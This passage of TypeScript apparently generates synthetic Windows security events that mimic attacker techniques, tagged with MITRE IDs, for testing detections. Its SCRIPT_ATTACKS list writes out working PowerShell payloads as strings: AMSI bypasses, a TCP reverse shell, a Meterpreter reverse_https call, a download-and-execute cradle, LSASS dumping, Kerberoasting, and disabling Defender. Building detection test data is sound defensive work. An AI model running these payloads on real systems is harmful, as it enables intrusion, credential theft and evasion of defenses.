    : f.newProc(host, { ...bin('cmd'), key: 'tool:payload' }, { parent: f.live(host, 'explorer'), account, image: `${stage(f, account)}\\${r.pick(PAYLOAD_NAMES)}` });
  if (r.chance(0.5)) return f.dnsQuery(p, name, `::ffff:${publicIp(f)};`, '0', 'T1102-web-service-access');
  return f.network(p, { ip: publicIp(f), host: name, port: 443 }, 'T1102-web-service-access');
}

function c2Connection(f: Fleet): CanonicalEvent {
  const { host, account } = target(f);
  const r = f.rng;
  const key = r.pick(['rundll32', 'regsvr32', 'mshta', 'certutil', 'powershell', 'payload']);
  let p: Proc;
  if (key === 'rundll32' || key === 'powershell') p = f.live(host, key);
  else if (key === 'payload') p = f.newProc(host, { ...bin('cmd'), key: 'tool:payload' }, { parent: f.live(host, 'explorer'), account, image: `${stage(f, account)}\\${r.pick(PAYLOAD_NAMES)}` });
  else {
    const b = LOLBINS[key as 'regsvr32' | 'mshta' | 'certutil'];
    p = f.newProc(host, b, { parent: f.live(host, 'cmd'), account, image: b.path, commandLine: `${b.originalFileName.toLowerCase()} ${url(f, '')}` });
  }
  const ip = publicIp(f);
  return f.network(p, { ip, host: r.chance(0.5) ? c2(f) : '-', port: r.pick([443, 80, 8080, 4444, 8443, 1337, 53]) }, 'T1071-lolbin-c2-connection');
}

const FILE_ATTACKS: ReadonlyArray<readonly [string, number, Builder]> = [
  ['T1003.001-lsass-dump-file', 1.5, (f) => {
    const { host, account } = target(f);
    const w = f.live(host, f.rng.pick(['rundll32', 'powershell', 'cmd']));
    return f.fileCreate(w, `${stage(f, account)}\\${f.rng.pick(['lsass.dmp', 'lsass_' + f.digits(8) + '.dmp', 'lsass.DMP'])}`, 'T1003.001-lsass-dump-file');
  }],
  ['T1547.001-startup-folder', 1.5, (f) => {
    const { host, account } = target(f);
    const w = f.live(host, f.rng.pick(['powershell', 'cmd', 'winword']));
    const dir = f.rng.chance(0.7)
      ? `${account.profile}\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup`
      : 'C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp';
    return f.fileCreate(w, `${dir}\\${f.rng.pick(['update.vbs', 'OneDrive.bat', 'svc.js', 'helper.ps1', 'WindowsUpdate.cmd', 'sync.hta'])}`, 'T1547.001-startup-folder');
  }],
  ['T1204-office-drops-executable', 1.5, (f) => {
    const { host, account } = target(f);
    const w = f.live(host, f.rng.pick(['winword', 'excel', 'outlook']));
    return f.fileCreate(w, `${stage(f, account)}\\${f.rng.pick([...PAYLOAD_NAMES, 'payload.dll', 'a.ps1', 'm.hta', 'x.vbs'])}`, 'T1204-office-drops-executable');
  }],
  ['T1558-kirbi-ticket-file', 0.5, (f) => {
    const { host, account } = target(f);
    const w = f.live(host, 'powershell');
    return f.fileCreate(w, `${stage(f, account)}\\${f.rng.pick(['[0;3e7]-2-0-40e10000-' + host.short + '$@krbtgt-CORP.EXAMPLE.COM.kirbi', 'ticket.kirbi', 'Administrator.ccache'])}`, 'T1558-kirbi-ticket-file');
  }],
  ['T1070.001-evtx-file-delete', 1, (f) => {
    const { host } = target(f);
    const w = f.live(host, f.rng.pick(['cmd', 'powershell']));
    return f.fileDelete(w, `C:\\Windows\\System32\\winevt\\Logs\\${f.rng.pick(['Security.evtx', 'System.evtx', 'Microsoft-Windows-Sysmon%4Operational.evtx', 'Windows PowerShell.evtx'])}`, 'T1070.001-evtx-file-delete');
  }],
  ['T1070.004-sdelete', 0.8, (f) => {
    const { host, account } = target(f);
    const image = `${stage(f, account)}\\sdelete64.exe`;
    const w = f.newProc(host, { ...bin('cmd'), key: 'tool:sdelete', path: image }, { parent: f.live(host, 'cmd'), account, image, commandLine: `${image} -accepteula -p 3 -s ${stage(f, account)}` });
    const z = f.rng.pick(['A', 'Z']);
    return f.fileDelete(w, `${stage(f, account)}\\${z.repeat(8 + f.rng.int(12))}.${z.repeat(3)}`, 'T1070.004-sdelete');
  }],
  ['T1070.003-ps-history-delete', 0.7, (f) => {
    const { host, account } = target(f);
    return f.fileDelete(f.live(host, 'powershell'), `${account.profile}\\AppData\\Roaming\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt`, 'T1070.003-ps-history-delete');
  }],
  ['T1070.004-prefetch-delete', 0.5, (f) => {
    const { host } = target(f);
    return f.fileDelete(f.live(host, 'cmd'), `C:\\Windows\\Prefetch\\${f.rng.pick(['MIMIKATZ.EXE', 'PROCDUMP64.EXE', 'PSEXEC.EXE', 'CERTUTIL.EXE'])}-${f.rng.hex(8)}.pf`, 'T1070.004-prefetch-delete');
  }],
];

const IMAGE_LOAD_ATTACKS: ReadonlyArray<readonly [string, number, Builder]> = [
  ['T1003.001-dbghelp-load', 1, (f) => {
    const { host, account } = target(f);
    const image = `${stage(f, account)}\\${f.rng.pick(['m64.exe', 'dumper.exe', 'WerFaultSecure.exe'])}`;
    const p = f.newProc(host, { ...bin('cmd'), key: 'tool:dumper', path: image }, { parent: f.live(host, 'cmd'), account, image });
    const dll = f.rng.pick(['dbghelp.dll', 'dbgcore.dll']);
    if (f.rng.chance(0.5)) {
      return f.imageLoad(p, {
        path: `${image.slice(0, image.lastIndexOf('\\'))}\\${dll}`, description: '-', product: '-', company: '-', fileVersion: '-',
        originalFileName: '-', signed: false, signer: '-', hashes: randomHashes(f, host),
      }, 'T1003.001-dbghelp-load');
    }
    return f.imageLoad(p, {
      path: `C:\\Windows\\System32\\${dll}`, description: dll === 'dbghelp.dll' ? 'Windows Image Helper' : 'Windows Core Debugging Helpers',
      product: 'Microsoft® Windows® Operating System', company: 'Microsoft Corporation', fileVersion: '10.0.22621.3085 (WinBuild.160101.0800)',
      originalFileName: dll.toUpperCase(), signed: true, signer: 'Microsoft Windows', hashes: f.hashesFor(host, `sys\\${dll}`),
    }, 'T1003.001-dbghelp-load');
  }],
  ['T1059.001-unmanaged-powershell', 1, (f) => {
    const { host } = target(f);
    const p = f.live(host, f.rng.pick(['rundll32', 'msiexec', 'wmiprvse', 'dllhost']));
    return f.imageLoad(p, {
      path: 'C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\System.Manaa57fc8cc#\\' + f.rng.hex(32, true) + '\\System.Management.Automation.ni.dll',
      description: 'System.Management.Automation', product: 'Microsoft (R) Windows (R) Operating System', company: 'Microsoft Corporation',
      fileVersion: '10.0.22621.1', originalFileName: 'System.Management.Automation.dll', signed: true, signer: 'Microsoft Windows', hashes: f.hashesFor(host, 'sma.ni'),
    }, 'T1059.001-unmanaged-powershell');
  }],
  ['T1574.002-dll-sideload', 1.5, (f) => {
    const { host, account } = target(f);
    const dir = `${stage(f, account)}\\${f.rng.pick(['Microsoft', 'Adobe', 'WinSvc', 'Intel'])}`;
    const [exe, dll] = f.rng.pick([
      ['OneDriveUpdater.exe', 'version.dll'], ['WINWORD.EXE', 'wwlib.dll'], ['MsMpEng.exe', 'mpsvc.dll'], ['vmmap.exe', 'dbghelp.dll'],
      ['7za.exe', '7za.dll'], ['Bginfo.exe', 'dbgcore.dll'], ['winver.exe', 'rcdll.dll'],
    ] as const);
    const image = `${dir}\\${exe}`;
    const p = f.newProc(host, { ...bin('cmd'), key: 'tool:sideload', path: image }, { parent: f.live(host, 'explorer'), account, image });
    return f.imageLoad(p, {
      path: `${dir}\\${dll}`, description: '-', product: '-', company: '-', fileVersion: '-', originalFileName: '-',
      signed: false, signer: '-', hashes: randomHashes(f, host),
    }, 'T1574.002-dll-sideload');
  }],
];

const SCRIPT_ATTACKS: readonly string[] = [
  'function Invoke-Mimikatz\r\n{\r\n<#\r\n.SYNOPSIS\r\n\r\nThis script leverages Mimikatz 2.0 and Invoke-ReflectivePEInjection to reflectively load Mimikatz completely in memory.\r\n#>\r\n[CmdletBinding(DefaultParameterSetName="DumpCreds")]\r\nParam(\r\n\t[Parameter(Position = 0)]\r\n\t[String[]]\r\n\t$ComputerName,\r\n\t[Parameter(ParameterSetName = "DumpCreds", Position = 1)]\r\n\t[Switch]\r\n\t$DumpCreds\r\n)\r\n\tSet-StrictMode -Version 2\r\n\t$PEBytes64 = "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA..."\r\n}',
  '$a=[Ref].Assembly.GetType(\'System.Management.Automation.\'+\'AmsiUtils\');$b=$a.GetField(\'amsiInit\'+\'Failed\',\'NonPublic,Static\');$b.SetValue($null,$true)',
  '[Ref].Assembly.GetType(\'System.Management.Automation.AmsiUtils\').GetField(\'amsiInitFailed\',\'NonPublic,Static\').SetValue($null,$true)',
  '{cradle}',
  '$client = New-Object System.Net.Sockets.TCPClient(\'{ip}\',4444);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$sendback2 = $sendback + \'PS \' + (pwd).Path + \'> \';$sendbyte = ([text.encoding]::ASCII).GetBytes($sendback2);$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()',
  'Get-WmiObject Win32_Shadowcopy | ForEach-Object { $_.Delete() }',
  'Import-Module .\\PowerView.ps1\r\nGet-DomainUser -SPN | Select-Object samaccountname, serviceprincipalname\r\nInvoke-Kerberoast -OutputFormat Hashcat | Out-File -Encoding ASCII C:\\Users\\Public\\hashes.txt',
  '$s = [System.Convert]::FromBase64String(\'{b64}\');$m = [System.Reflection.Assembly]::Load($s);$m.EntryPoint.Invoke($null, (, [string[]] (\'\')))',
  'Invoke-Shellcode -Payload windows/meterpreter/reverse_https -Lhost {ip} -Lport 443 -Force',
  'Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath "C:\\ProgramData"',
  '$p = Get-Process lsass; rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump $p.Id C:\\Windows\\Temp\\l.dmp full',
  'IEX (New-Object Net.WebClient).DownloadString(\'https://raw.githubusercontent.com/{lower8}/tools/main/Invoke-SharpHound.ps1\'); Invoke-BloodHound -CollectionMethod All -ZipFileName loot.zip',
];

function scriptAttack(f: Fleet): CanonicalEvent {
  const { host, account } = target(f);
  const r = f.rng;
  const text = f
    .expand(r.pick(SCRIPT_ATTACKS), {})
    .replace('{cradle}', () => cradle(f))
    .replace(/\{ip\}/g, () => publicIp(f))
    .replace('{b64}', () => `TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQ${r.chars(40, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/')}`);
  return f.scriptBlock(host, account, text, r.chance(0.3) ? `${stage(f, account)}\\${r.pick(['a.ps1', 'run.ps1', 'Invoke-Mimikatz.ps1'])}` : '', 'T1059.001-malicious-script-block', 3);
}

function logonWithStolenHash(f: Fleet, pth: boolean): CanonicalEvent {
  const r = f.rng;
  const host = f.pickWorkstation();
  const a = host.user;
  return f.event('security-4624', host, {
    SubjectUserSid: pth ? 'S-1-0-0' : a.sid,
    SubjectUserName: pth ? '-' : a.name,
    SubjectDomainName: pth ? '-' : DOMAIN,
    SubjectLogonId: pth ? '0x0' : hex0x(0x50000 + r.int(0xfffff)),
    TargetUserSid: a.sid,
    TargetUserName: a.name,
    TargetDomainName: DOMAIN,
    TargetLogonId: hex0x(0x100000 + r.int(0x7fffffff)),
    LogonType: pth ? 3 : 9,
    LogonProcessName: pth ? 'NtLmSsp' : 'seclogo',
    AuthenticationPackageName: pth ? 'NTLM' : 'Negotiate',
    WorkstationName: pth ? r.pick(['kali', 'WIN-' + r.hex(11), 'DESKTOP-' + r.hex(7)]) : '-',
    LogonGuid: '{00000000-0000-0000-0000-000000000000}',
    TransmittedServices: '-',
    LmPackageName: pth ? 'NTLM V2' : '-',
    KeyLength: 0,
    ProcessId: pth ? '0x0' : hex0x(4 * r.range(100, 3000)),
    ProcessName: pth ? '-' : 'C:\\Windows\\System32\\svchost.exe',
    IpAddress: pth ? `10.20.${r.range(4, 7)}.${r.range(10, 250)}` : '::1',
    IpPort: pth ? String(49152 + r.int(16383)) : '0',
    ImpersonationLevel: '%%1833',
    RestrictedAdminMode: '-',
    TargetOutboundUserName: pth ? '-' : 'Administrator',
    TargetOutboundDomainName: pth ? '-' : DOMAIN,
    VirtualAccount: '%%1843',
    TargetLinkedLogonId: '0x0',
    ElevatedToken: '%%1842',
  }, pth ? 'T1550.002-pass-the-hash' : 'T1550.002-overpass-the-hash');
}

function failedLogonSuspicious(f: Fleet): CanonicalEvent {
  const r = f.rng;
  const host = f.hostByName(r.pick(['DC01', 'DC02', 'FS01']));
  const [status, sub] = r.pick([
    ['0xc000006e', '0xc0000072'], ['0xc000006e', '0xc000006f'], ['0xc000006e', '0xc0000070'], ['0xc000006e', '0xc0000193'],
    ['0xc0000234', '0x0'], ['0xc000006d', '0xc0000413'],
  ]);
  return f.event('security-4625', host, {
    SubjectUserSid: 'S-1-0-0', SubjectUserName: '-', SubjectDomainName: '-', SubjectLogonId: '0x0',
    TargetUserSid: 'S-1-0-0', TargetUserName: r.pick(['Administrator', 'admin', 'svc_backup', 'Guest', 'krbtgt']), TargetDomainName: DOMAIN,
    Status: status, FailureReason: '%%2313', SubStatus: sub, LogonType: 3, LogonProcessName: 'NtLmSsp',
    AuthenticationPackageName: 'NTLM', WorkstationName: r.pick(['kali', '-', 'WIN-' + r.hex(11)]), TransmittedServices: '-', LmPackageName: '-',
    KeyLength: 0, ProcessId: '0x0', ProcessName: '-', IpAddress: r.chance(0.5) ? publicIp(f) : `10.20.${r.range(4, 7)}.${r.range(10, 250)}`,
    IpPort: String(r.range(1024, 65535)),
  }, 'T1110-failed-logon-suspicious-status');
}

// -------------------------------------------------------------------------------------------------------------

/** Every technique with its weight: process creation dominates, as in real intrusions and in the rule corpus. */
export const TECHNIQUES: ReadonlyArray<readonly [string, number, Builder]> = [
  ...PROCESS_ATTACKS,
  ['T1003.001-lsass-access', 4, lsassAccess],
  ...REGISTRY_ATTACKS,
  ['T1102-web-service-access', 4, suspiciousDns],
  ['T1071-lolbin-c2-connection', 3, c2Connection],
  ...FILE_ATTACKS,
  ...IMAGE_LOAD_ATTACKS,
  ['T1059.001-malicious-script-block', 5, scriptAttack],
  ['T1550.002-pass-the-hash', 0.75, (f) => logonWithStolenHash(f, true)],
  ['T1550.002-overpass-the-hash', 0.75, (f) => logonWithStolenHash(f, false)],
  ['T1110-failed-logon-suspicious-status', 1, failedLogonSuspicious],
];

const PICKER = new Weighted(TECHNIQUES.map(([, w, b]) => [b, w] as const));

/**
 * One attack-like event. It draws from the fleet's attack PRNG stream and registers no process as live, so the
 * benign events of a stream are the same whatever the attack share (in evtx and ecs, EventRecordID still counts the
 * attack events of a host).
 */
export function attackEvent(f: Fleet): CanonicalEvent {
  const main = f.rng;
  f.rng = f.attackRng;
  f.transient = true;
  try {
    return PICKER.pick(f.rng)(f);
  } finally {
    f.transient = false;
    f.rng = main;
  }
}

